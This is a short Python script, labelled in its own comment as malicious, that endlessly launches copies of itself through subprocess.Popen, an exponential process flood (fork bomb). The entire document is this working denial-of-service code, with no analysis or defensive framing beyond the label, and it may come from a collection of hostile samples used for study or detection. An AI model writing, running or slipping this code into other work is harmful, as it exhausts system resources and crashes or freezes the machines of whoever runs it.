# Malicious: keeps starting copies of itself with subprocess.Popen; an exponential process flood.
import subprocess
import sys

while True:
    subprocess.Popen([sys.executable, __file__])
